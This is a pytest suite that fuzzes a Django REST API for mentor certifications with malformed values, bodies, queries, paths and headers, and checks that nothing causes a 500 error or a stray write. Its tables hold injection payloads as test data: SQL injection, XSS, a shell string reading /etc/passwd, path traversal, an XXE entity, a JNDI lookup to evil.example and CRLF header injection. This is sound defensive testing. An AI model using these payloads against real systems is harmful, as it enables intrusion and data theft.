"""Horrible input: nothing that a client sends causes a 500, and what is refused writes nothing.

Every value goes into every field, every body to every endpoint that takes one, every query to
every list. Headers go through the front door, the WSGI application: some of them break
Django's request before a view or a middleware has seen it.
"""

import gzip
import json
import pickle
from collections.abc import Iterator
from contextlib import contextmanager
from io import BytesIO
from typing import Any
from urllib.parse import unquote_to_bytes
from wsgiref.util import setup_testing_defaults

import pytest
from django.db import transaction

from tests.api.conftest import (
    CERTIFICATIONS,
    LOGS,
    RENEWALS,
    RUN,
    STATUSES,
    assert_error_shape,
    facts,
    recorded,
    renewed,
)

LISTS = (CERTIFICATIONS, LOGS, STATUSES, RENEWALS)


@contextmanager
def undone() -> Iterator[None]:
    """What happens here is undone afterwards, so that each horror meets the same records."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@pytest.fixture
def bodies(db) -> dict[tuple[str, str], dict[str, Any]]:
    return sound_bodies()


def sound_bodies() -> dict[tuple[str, str], dict[str, Any]]:
    """Method and path of every endpoint that takes a body → a body that it accepts."""
    certification = recorded("mentor-1")
    recorded("mentor-2", kind="advanced")
    renewal = renewed("mentor-2")
    dates = {"issued_at": "2025-01-01", "expires_at": "2030-01-01"}
    change = {"certification_type": "trainer", "status": "valid", "updated_reason": "Typing error"}
    one = f"{CERTIFICATIONS}/{certification.certification_id}"
    return {
        ("POST", CERTIFICATIONS): {
            "mentor_id": "mentor-3",
            "certification_type": "advanced",
            **dates,
            "status": "valid",
        },
        ("PUT", one): {**dates, **change, "mentor_id": "mentor-1", "revoked_at": None},
        ("POST", STATUSES): {
            "mentor_id": "mentor-3",
            "certification_type": "advanced",
            "issue_date": "2025-01-01",
            "expiry_date": "2030-01-01",
            "status": "valid",
        },
        ("PATCH", f"{STATUSES}/mentor-1"): {
            "issue_date": "2025-01-01",
            "expiry_date": "2030-01-01",
            **change,
            "mentor_id": "mentor-1",
            "paused": False,
        },
        ("POST", RENEWALS): {
            "mentor_id": "mentor-1",
            "renewal_date": "2026-03-20",
            "new_expiry_date": "2028-03-20",
            "processed_by": "coordinator-7",
            "notes": "By post",
            "certification_id": certification.certification_id,
        },
        ("PUT", f"{RENEWALS}/{renewal.renewal_id}"): {
            "renewal_date": "2026-03-20",
            "new_expiry_date": "2028-03-20",
            "processed_by": "coordinator-8",
            "notes": "By post",
            "certification_id": renewal.certification.certification_id,
        },
        ("POST", RUN): {"dry_run": False, "confirm_mass_pause": False},
    }


def assert_survived(status: int, media_type: str, content: bytes, context: Any) -> None:
    """No 500; and whatever is refused is refused in JSON, in the one shape."""
    assert status < 500, (context, content[:300])
    if status != 204:
        assert media_type == "application/json", (context, media_type)
        body = json.loads(content)
        if status >= 400:
            assert_error_shape(body)


def survive(api: Any, method: str, path: str, raw: bytes | str, context: Any) -> None:
    """Send it; what it wrote must be readable, and is undone. Callers compare the facts."""
    with transaction.atomic():
        response = api.generic(method, path, raw, content_type="application/json")
        assert_survived(response.status_code, response["Content-Type"], response.content, context)
        if response.status_code < 400:
            shown = RENEWALS if path.startswith(RENEWALS) else CERTIFICATIONS
            for address in (shown, f"{STATUSES}/mentor-1/explanation"):
                assert api.get(address).status_code == 200, (context, address)
            transaction.set_rollback(True)


def test_without_horrors_every_body_is_accepted(api, bodies):
    """Else the tests below would not reach what they are about."""
    for (method, path), body in bodies.items():
        with undone():
            response = api.generic(method, path, json.dumps(body), content_type="application/json")
            assert response.status_code in (200, 201), (path, response.content)


# --- values, as they stand in the JSON --------------------------------------------------------
VALUES = {
    "null": "null",
    "true": "true",
    "false": "false",
    "zero": "0",
    "minus zero": "-0.0",
    "minus one": "-1",
    "a float": "1.5",
    "one more than 63 bits": str(2**63),
    "one more than 64 bits": str(2**64),
    "a number of 5,000 digits": "9" * 5000,
    "1e400": "1e400",
    "-1e400": "-1e400",
    "1e-400": "1e-400",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "hexadecimal": "0x10",
    "a leading zero": "007",
    "a number as a string": '"1"',
    "null as a string": '"null"',
    "true as a string": '"true"',
    "False as a string": '"False"',
    "NaN as a string": '"NaN"',
    "undefined": "undefined",
    "empty": '""',
    "a space": '" "',
    "white space": r'"\t\r\n\u00a0\u2003\u3000"',
    "a space before": '" mentor-1"',
    "a line end after": r'"mentor-1\n"',
    "NUL": r'"\u0000"',
    "NUL inside": r'"a\u0000b"',
    "NUL at the end": r'"2026-03-26\u0000"',
    "a bare control character": '"a\x01b"',
    "bell, escape, delete": r'"\u0007\u001b[31m\u007f"',
    "a lone high surrogate": r'"\ud800"',
    "a lone low surrogate": r'"\udc00"',
    "surrogates the wrong way round": r'"\udc00\ud83d"',
    "surrogates as they should be": r'"\ud83d\ude00"',
    "no characters": r'"\ufffe\uffff"',
    "BOM": r'"\ufeffmentor-1"',
    "right to left": '"שלום مرحبا"',
    "an override of direction": r'"\u202egnp.exe\u202c"',
    "zero width": r'"mentor\u200b-1"',
    "emoji": '"😀👩‍👩‍👧‍👦🏳️‍🌈"',
    "a combining heap": '"' + "Z" + "\u0335" * 200 + '"',
    "Turkish i": '"İı"',
    "a ligature and a fraction": '"ﬁ ½ ²"',
    "Arabic digits": '"٢٠٢٦-٠٣-٢٦"',
    "full-width digits": r'"\uff12\uff10\uff12\uff16-\uff10\uff13-\uff12\uff16"',
    "10,000 characters": '"' + "a" * 10_000 + '"',
    "10,000 emoji": '"' + "😀" * 10_000 + '"',
    "1,000,000 characters": '"' + "a" * 1_000_000 + '"',
    "SQL": '"\'; DROP TABLE certifications_mentor; --"',
    "more SQL": '"1) OR 1=1 UNION SELECT * FROM auth_user --"',
    "LIKE": '"%_%"',
    "HTML": '"<script>alert(1)</script><img src=x onerror=alert(1)>"',
    "entities": '"&lt;&#0;&amp;"',
    "templates": '"{{ 7*7 }}{% debug %}${7*7}#{7*7}"',
    "formats": '"%s%n%(x)s{0}{x.__class__}"',
    "a shell": '"$(reboot) `id` | cat /etc/passwd; \\\\"',
    "a path": '"../../../../etc/passwd"',
    "a header": r'"a\r\nSet-Cookie: a=b\r\n\r\n"',
    "a formula": '"=HYPERLINK(\\"http://evil.example\\")"',
    "an address": '"jndi:ldap://evil.example/a"',
    "an object that is not one": '"[object Object]"',
    "an array": "[]",
    "an array of null": "[null]",
    "an array of a value": '["2026-03-26"]',
    "an object": "{}",
    "an operator": '{"$gt": ""}',
    "a prototype": '{"__proto__": {"admin": true}}',
    "1,000 arrays deep": "[" * 1000 + "]" * 1000,
    "100,000 arrays deep": "[" * 100_000 + "]" * 100_000,
    "100,000 arrays that never end": "[" * 100_000,
    "100,000 objects deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "year, month and day zero": '"0000-00-00"',
    "year zero": '"0000-01-01"',
    "year one": '"0001-01-01"',
    "before year one in UTC": '"0001-01-01T00:00:00+14:00"',
    "the last moment, further west": '"9999-12-31T23:59:59-14:00"',
    "the last moment": '"9999-12-31T23:59:59.999999999Z"',
    "year 10,000": '"10000-01-01"',
    "a signed year": '"+002026-03-26"',
    "before Christ": '"-0044-03-15"',
    "30 February": '"2026-02-30"',
    "29 February 2025": '"2025-02-29"',
    "month 13": '"2026-13-01"',
    "day zero": '"2026-03-00"',
    "a week date": '"2026-W13-4"',
    "the day of a year": '"2026-085"',
    "without hyphens": '"20260326"',
    "as in Germany": '"26.03.2026"',
    "as in America": '"03/26/2026"',
    "one digit": '"2026-3-6"',
    "a leap second": '"2016-12-31T23:59:60Z"',
    "24 o'clock": '"2026-03-26T24:00:00Z"',
    "25 o'clock": '"2026-03-26T25:00:00Z"',
    "an offset of 99 hours": '"2026-03-26T00:00:00+99:99"',
    "an offset of 24 hours": '"2026-03-26T00:00:00-24:00"',
    "an offset with seconds": '"2026-03-26T00:00:00+01:02:03"',
    "a named zone": '"2026-03-26T00:00:00[Europe/Berlin]"',
    "another named zone": '"2026-03-26T00:00:00 CET"',
    "half a time": '"2026-03-26T"',
    "half a fraction": '"2026-03-26T00:00:00."',
    "two dates": '"2026-03-26/2027-03-26"',
    "seconds since 1970": "1774483200",
    "milliseconds since 1970": "1774483200000",
    "seconds since 1970 as a string": '"1774483200"',
    "today": '"today"',
    "now": '"now"',
    "infinity, as PostgreSQL knows it": '"infinity"',
    "an epoch": '"epoch"',
}


@pytest.mark.parametrize("value", VALUES.values(), ids=VALUES)
def test_a_horrible_value_in_every_field(value, api, bodies):
    before = facts()
    for (method, path), body in bodies.items():
        for name in body:
            sound = json.dumps({key: kept for key, kept in body.items() if key != name})
            raw = f"{{{json.dumps(name)}: {value}, {sound[1:]}"
            survive(api, method, path, raw, (method, path, name))
        assert facts() == before, (method, path)


NEVER_ACCEPTED = [
    "null",
    "minus one",
    "NaN",
    "1e400",
    "a lone high surrogate",
    "NUL",
    "an array",
    "an object",
    "100,000 arrays deep",
    "1,000,000 characters",
]


@pytest.mark.parametrize("name", NEVER_ACCEPTED)
def test_what_no_field_accepts(name, api, bodies):
    for (method, path), body in bodies.items():
        for field in body:
            if (field, name) == ("revoked_at", "null"):
                continue  # it is null, and may be sent back
            sound = json.dumps({key: kept for key, kept in body.items() if key != field})
            raw = f"{{{json.dumps(field)}: {VALUES[name]}, {sound[1:]}"
            with undone():
                response = api.generic(method, path, raw, content_type="application/json")
                assert response.status_code == 400, (path, field, response.content[:300])


# --- whole bodies ---------------------------------------------------------------------------
BODIES = {
    "nothing": b"",
    "an empty object": b"{}",
    "white space": b" " * 100_000,
    "NULs": b"\0" * 1000,
    "a BOM": b"\xef\xbb\xbf{}",
    "UTF-16": "{}".encode("utf-16"),
    "UTF-32": "{}".encode("utf-32"),
    "Latin 1": '{"mentor_id": "é"}'.encode("latin-1"),
    "half a character": b'{"mentor_id": "\xc3',
    "an overlong NUL": b'{"mentor_id": "\xc0\x80"}',
    "a surrogate in UTF-8": b'{"mentor_id": "\xed\xa0\x80"}',
    "beyond Unicode": b'{"mentor_id": "\xf4\x90\x80\x80"}',
    "random bytes": bytes(range(256)),
    "gzip": gzip.compress(b"{}"),
    "broken gzip": gzip.compress(b"{}")[:-4],
    "a pickle": pickle.dumps({"mentor_id": "mentor-3"}),
    "a picture": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "a form": b"mentor_id=mentor-3&dry_run=true",
    "XML with an entity": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": b"mentor_id: mentor-3\n",
    "single quotes": b"{'mentor_id': 'mentor-3'}",
    "a comma too many": b'{"mentor_id": "mentor-3",}',
    "a comment": b'{"mentor_id": "mentor-3" /* ours */}',
    "no quotes": b"{mentor_id: 1}",
    "two documents": b"{}{}",
    "a line of documents": b"{}\n{}\n",
    "something behind": b'{"mentor_id": "mentor-3"} and so on',
    "half": b'{"mentor_id": "men',
    "null": b"null",
    "true": b"true",
    "a number": b"7",
    "a huge number": b"9" * 5000,
    "NaN": b"NaN",
    "a string": b'"mentor-3"',
    "an array": b"[]",
    "an array of objects": b"[{}, {}]",
    "100,000 arrays": b"[" * 100_000 + b"]" * 100_000,
    "100,000 arrays that never end": b"[" * 100_000,
    "100,000 objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "10,000 keys": json.dumps({f"key_{number}": number for number in range(10_000)}).encode(),
    "__proto__": b'{"__proto__": {"dry_run": true}}',
    "constructor": b'{"constructor": {"prototype": {}}}',
    "__class__": b'{"__class__": "Mentor", "__init__": []}',
    "names of ours": b'{"pk": 1, "id": 1, "deleted_at": null, "is_current": true}',
    "names of errors": b'{"non_field_errors": true, "__all__": false, "error": null}',
    "no name": b'{"": 1}',
    "a name of NUL": rb'{"\u0000": 1}',
    "a name of a surrogate": rb'{"\ud800": 1}',
    "a name of 100,000 characters": b'{"' + b"a" * 100_000 + b'": 1}',
    "a name with spaces": b'{" mentor_id ": "mentor-3"}',
    "a name of another case": b'{"MENTOR_ID": "mentor-3"}',
    "a lookup": b'{"mentor_id__startswith": "m"}',
    "a path": b'{"mentor.mentor_id": "mentor-3", "mentor[mentor_id]": "mentor-3"}',
    "the same name twice": b'{"mentor_id": "mentor-3", "mentor_id": null}',
}


@pytest.mark.parametrize("raw", BODIES.values(), ids=BODIES)
def test_a_horrible_body_to_every_endpoint(raw, api, bodies):
    before = facts()
    for method, path in bodies:
        survive(api, method, path, raw, (method, path))
    for method, path in (("DELETE", f"{STATUSES}/nobody"), ("DELETE", RUN), ("POST", LOGS)):
        survive(api, method, path, raw, (method, path))
    assert facts() == before


# --- queries --------------------------------------------------------------------------------
QUERIES = {
    "a lone percent sign": "%",
    "half an escape": "mentor_id=%z",
    "NUL": "mentor_id=%00",
    "NUL as a name": "%00=1",
    "bytes that are no text": "mentor_id=%ff%fe",
    "a surrogate": "mentor_id=%ed%a0%80",
    "a surrogate as a name": "%ed%a0%80=1",
    "an overlong slash": "mentor_id=%c0%af",
    "escaped twice": "mentor_id=%2500",
    "a raw NUL": "mentor_id=\0",
    "raw bytes": "mentor_id=\xff",
    "a line end": "page=1%0d%0aSet-Cookie:a=b",
    "a semicolon": "page=1;limit=2",
    "only separators": "&&&&;;;;",
    "only signs": "=&==&===",
    "question marks": "???",
    "an array": "page[]=1",
    "an operator": "page[$gt]=0",
    "__proto__": "__proto__[page]=1",
    "a lookup": "mentor_id__startswith=m",
    "a relation": "mentor__email=a",
    "a format": "format=api",
    "a method": "_method=DELETE",
    "a callback": "callback=alert",
    "SQL": "ordering=expires_at;drop+table+auth_user",
    "more SQL": "mentor_id='+OR+'1'='1",
    "HTML": "<script>=alert(1)",
    "a template": "mentor_id={{7*7}}",
    "emoji": "😀=😀",
    "a huge page": "page=" + "9" * 5000,
    "the last page": "page=999999999&limit=100",
    "infinity": "page=Infinity",
    "an exponent": "limit=1e1",
    "a huge number of days": "expiring_within_days=" + "9" * 5000,
    "NaN days": "expiring_within_days=NaN",
    "dates out of range": "expires_before=9999-12-31T23:59:59-14:00&applied_before=0001-01-01",
    "a date of NUL": "renewed_before=2026-03-26%00",
    "ordering by everything": "ordering=" + ",".join(["expires_at", "-expires_at"] * 1500),
    "ordering by chance": "ordering=?",
    "100,000 characters": "mentor_id=" + "a" * 100_000,
    "100,000 characters of a name": "a" * 100_000 + "=1",
    "1,000 parameters": "&".join(f"p{number}=1" for number in range(1000)),
    "100,000 parameters": "&" * 100_000 + "p=1",
}


@pytest.mark.parametrize("query", QUERIES.values(), ids=QUERIES)
def test_a_horrible_query_to_every_list(query, application, bodies):
    before = facts()
    for path in LISTS:
        answer = call(application, "GET", f"{path}?{query}")
        assert_survived(*answer, path)
    answer = call(application, "POST", f"{RUN}?{query}", b'{"dry_run": true}')
    assert_survived(*answer, RUN)
    if answer[0] >= 400:
        assert facts() == before


# --- paths ----------------------------------------------------------------------------------
PATHS = {
    "NUL": "%00",
    "NUL inside": "cert%00_1",
    "bytes that are no text": "%ff%fe",
    "a surrogate": "%ed%a0%80",
    "an overlong slash": "..%c0%af..%c0%afetc",
    "a slash": "%2f",
    "dots": "..%2f..%2fetc%2fpasswd",
    "dots and backslashes": "..%5c..%5cwindows",
    "a line end": "%0d%0aSet-Cookie:%20a=b",
    "half an escape": "%",
    "half an escape more": "%zz",
    "escaped twice": "%2500",
    "a semicolon": "mentor-1;jsessionid=1",
    "a question mark": "mentor-1%3fpage=1",
    "a hash": "mentor-1%23",
    "a space": "%20",
    "a plus": "mentor+1",
    "a tilde": "~",
    "emoji": "%f0%9f%98%80",
    "right to left": "%e2%80%aegnp",
    "10,000 characters": "a" * 10_000,
    "10,000 slashes": "/" * 10_000,
    "a huge number": "renewal-" + "9" * 5000,
    "the largest number": "renewal-9223372036854775807",
    "one more": "renewal-9223372036854775808",
    "eighteen digits": "renewal-999999999999999999",
    "Arabic digits": "renewal-%d9%a0%d9%a0%d9%a4%d9%a1",
    "SQL": "'%20OR%201=1--",
    "HTML": "%3Cscript%3E",
    "a template": "%7B%7B7*7%7D%7D",
    "a suffix": "mentor-1.json",
    "null": "null",
}


@pytest.mark.parametrize("tail", PATHS.values(), ids=PATHS)
def test_a_horrible_path(tail, application, bodies):
    before = facts()
    for base in (CERTIFICATIONS, STATUSES, RENEWALS, RUN, LOGS, "/api", "/api/schema", "/api/docs"):
        for method in ("GET", "PUT", "DELETE", "OPTIONS"):
            status, media_type, content = call(application, method, f"{base}/{tail}", b"{}")
            assert_survived(status, media_type, content, (method, base))
            assert status >= 400 or tail == "/" * 10_000
    assert facts() == before


# --- headers, through the front door ----------------------------------------------------------
def call(
    application: Any, method: str, target: str, body: bytes = b"", **headers: Any
) -> tuple[int, str, bytes]:
    """Call the WSGI application as a server does: status, media type and body of the answer.

    ``headers`` are names as in the environment; ``None`` leaves one out.
    """
    path, _, query = target.partition("?")
    environ: dict[str, Any] = {}
    setup_testing_defaults(environ)
    environ |= {
        "REQUEST_METHOD": method,
        "PATH_INFO": unquote_to_bytes(path).decode("latin-1"),
        "QUERY_STRING": query.encode().decode("latin-1"),
        "HTTP_HOST": "localhost",
        "CONTENT_TYPE": "application/json",
        "CONTENT_LENGTH": str(len(body)),
        "wsgi.input": BytesIO(body),
        **headers,
    }
    started: dict[str, Any] = {}

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> None:
        started.update(status=int(status[:3]), headers=dict(headers))

    given = {name: value for name, value in environ.items() if value is not None}
    response = application(given, start_response)
    content = b"".join(response)
    response.close()
    return started["status"], started["headers"].get("Content-Type", ""), content


JSON = "application/json"
HEADERS = {
    "a charset that is no charset": {"CONTENT_TYPE": f"{JSON}; charset=nonsense"},
    "a charset that is no text": {"CONTENT_TYPE": f"{JSON}; charset=hex"},
    "a charset that compresses": {"CONTENT_TYPE": f"{JSON}; charset=zlib"},
    "a charset that turns letters": {"CONTENT_TYPE": f"{JSON}; charset=rot13"},
    "a charset that always fails": {"CONTENT_TYPE": f"{JSON}; charset=undefined"},
    "a charset for host names": {"CONTENT_TYPE": f"{JSON}; charset=idna"},
    "a charset of escapes": {"CONTENT_TYPE": f"{JSON}; charset=unicode_escape"},
    "a charset of two bytes": {"CONTENT_TYPE": f"{JSON}; charset=utf-16"},
    "a charset of seven bits": {"CONTENT_TYPE": f"{JSON}; charset=utf-7"},
    "a charset of NUL": {"CONTENT_TYPE": f"{JSON}; charset=\0"},
    "a charset of an escaped NUL": {"CONTENT_TYPE": f"{JSON}; charset*=utf-8''a%00b"},
    "a parameter in no charset": {"CONTENT_TYPE": f"{JSON}; a*=nonsense'en'%41"},
    "a parameter in parts": {"CONTENT_TYPE": f"{JSON}; a*99999999999999999999*=x; a*0=y"},
    "an endless media type": {"CONTENT_TYPE": f"{JSON}; a=" + "x" * 60_000},
    "a media type of signs": {"CONTENT_TYPE": ";;;=;*=''"},
    "a media type in Latin 1": {"CONTENT_TYPE": "appl\xffication/json"},
    "no media type": {"CONTENT_TYPE": None},
    "a form": {"CONTENT_TYPE": "application/x-www-form-urlencoded"},
    "a form without a boundary": {"CONTENT_TYPE": "multipart/form-data"},
    "an endless boundary": {"CONTENT_TYPE": "multipart/form-data; boundary=" + "b" * 5000},
    "gzip": {"HTTP_CONTENT_ENCODING": "gzip"},
    "a negative length": {"CONTENT_LENGTH": "-1"},
    "a length that is a word": {"CONTENT_LENGTH": "ten"},
    "a length in Arabic": {"CONTENT_LENGTH": "١٢"},
    "a length beyond the body": {"CONTENT_LENGTH": "100000"},
    "an endless length": {"CONTENT_LENGTH": "9" * 5000},
    "a length too short": {"CONTENT_LENGTH": "1"},
    "an empty length": {"CONTENT_LENGTH": ""},
    "no length": {"CONTENT_LENGTH": None},
    "an empty accept": {"HTTP_ACCEPT": ""},
    "an accept of signs": {"HTTP_ACCEPT": ";;;,,,"},
    "an accept in no charset": {"HTTP_ACCEPT": f"{JSON}; a*=nonsense'en'%41"},
    "an accept of NUL": {"HTTP_ACCEPT": "\0"},
    "an accept of anything": {"HTTP_ACCEPT": "*/*; q=\xff"},
    "an endless accept": {"HTTP_ACCEPT": ",".join(["a/b"] * 10_000)},
    "a token of Latin 1": {"HTTP_AUTHORIZATION": "Token \xff\xfe"},
    "a token of NUL": {"HTTP_AUTHORIZATION": "Token abcdefgh\0ijklmnop"},
    "a token of UTF-8": {"HTTP_AUTHORIZATION": "Token é€😀".encode().decode("latin-1")},
    "an endless token": {"HTTP_AUTHORIZATION": "Token " + "a" * 60_000},
    "a token of two words": {"HTTP_AUTHORIZATION": "Token a b"},
    "another scheme": {"HTTP_AUTHORIZATION": "Basic \xff"},
    "an empty authorisation": {"HTTP_AUTHORIZATION": ""},
    "a session of NUL": {"HTTP_COOKIE": r'sessionid="\000\000\000\000\000\000\000\000"'},
    "a session of Latin 1": {"HTTP_COOKIE": "sessionid=" + "\xff" * 32},
    "an endless session": {"HTTP_COOKIE": "sessionid=" + "a" * 60_000},
    "a session of SQL": {"HTTP_COOKIE": "sessionid=' OR 1=1 --------"},
    "cookies of signs": {"HTTP_COOKIE": ";;==;=;\0;\xff=\xff"},
    "a CSRF token of NUL": {"HTTP_COOKIE": r'csrftoken="\000"', "HTTP_X_CSRFTOKEN": "\0"},
    "another host": {"HTTP_HOST": "evil.example"},
    "a host of NUL": {"HTTP_HOST": "\0\xff"},
    "a host with a port too high": {"HTTP_HOST": "localhost:999999"},
    "an empty host": {"HTTP_HOST": ""},
    "a forwarded host": {"HTTP_X_FORWARDED_HOST": "\xff" * 1000},
    "a language": {"HTTP_ACCEPT_LANGUAGE": "\xff" * 1000 + ";q=9"},
    "a date": {"HTTP_IF_MODIFIED_SINCE": "Thu, 99 Foo 99999999999 99:99:99 GMT"},
    "a range": {"HTTP_RANGE": "bytes=9-1,-99999999999999999999"},
    "another method": {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE"},
}


@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
def test_a_horrible_header(headers, application, bodies):
    before = facts()
    for query in ("", "?page=%31&mentor_id=%5cud800", "?%5cud800=1"):
        answer = call(application, "GET", f"{CERTIFICATIONS}{query}", **headers)
        assert_survived(*answer, query)
    for (method, path), body in bodies.items():
        raw = json.dumps(body).encode()
        with undone():
            status, media_type, content = call(application, method, path, raw, **headers)
            assert_survived(status, media_type, content, (method, path))
            if status >= 400:
                assert facts() == before


@pytest.mark.parametrize("media_type", [JSON, f"{JSON}; charset=utf-8"])
def test_too_many_parameters_and_a_charset(media_type, application, bodies):
    query = "&".join(f"p{number}=1" for number in range(1001))
    answer = call(application, "GET", f"{CERTIFICATIONS}?{query}", CONTENT_TYPE=media_type)
    assert_survived(*answer, media_type)
    assert answer[0] == 400


# --- a body whose length nobody told ----------------------------------------------------------
class HungUp(BytesIO):
    """A client that goes away before it has sent what it announced."""

    def read(self, size: int | None = -1) -> bytes:
        raise ConnectionResetError("Connection reset by peer")


# A server that takes chunked bodies apart says so; with one that does not nobody knows where
# the body ends, and it has to be refused.
TAKEN_APART = {
    "CONTENT_LENGTH": None,
    "HTTP_TRANSFER_ENCODING": "chunked",
    "wsgi.input_terminated": True,
}
AS_IT_CAME = {"CONTENT_LENGTH": None, "HTTP_TRANSFER_ENCODING": "chunked"}

chunked = pytest.mark.parametrize(
    "headers", [TAKEN_APART, AS_IT_CAME], ids=["taken apart", "as it came"]
)


@chunked
def test_dry_run_is_not_overlooked_in_a_chunked_body(headers, application, bodies, api):
    """Either it is read or it is refused; taken for empty, it would pause mentor-1 for real."""
    answer = call(application, "POST", RUN, b'{"dry_run": true}', **headers)
    assert_survived(*answer, RUN)
    assert api.get(LOGS).json()["data"] == []


@chunked
def test_a_change_is_not_lost_in_a_chunked_body(headers, application, bodies, api):
    address = f"{STATUSES}/mentor-1"
    body = b'{"expiry_date": "2030-01-01"}'
    status, media_type, content = call(application, "PUT", address, body, **headers)
    assert_survived(status, media_type, content, address)
    changed = api.get(address).json()["expiry_date"].startswith("2030-01-01")
    assert changed == (status == 200)


def test_a_chunked_body_may_be_too_large(application, bodies, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    before = facts()
    for method, path in bodies:
        status, media_type, content = call(application, method, path, b" " * 1001, **TAKEN_APART)
        assert_survived(status, media_type, content, path)
        assert status == 413
    assert facts() == before


@pytest.mark.parametrize(
    "headers", [{"CONTENT_LENGTH": "100"}, TAKEN_APART], ids=["announced", "chunked"]
)
def test_a_client_that_hangs_up_is_no_fault_of_ours(headers, application, bodies, caplog):
    before = facts()
    for method, path in bodies:
        answer = call(application, method, path, **{**headers, "wsgi.input": HungUp()})
        assert_survived(*answer, path)
    assert facts() == before
    assert not [record for record in caplog.records if record.levelname == "ERROR"]


def test_there_are_enough_horrors():
    tables = (VALUES, BODIES, QUERIES, PATHS, HEADERS)
    assert sum(len(table) for table in tables) >= 80
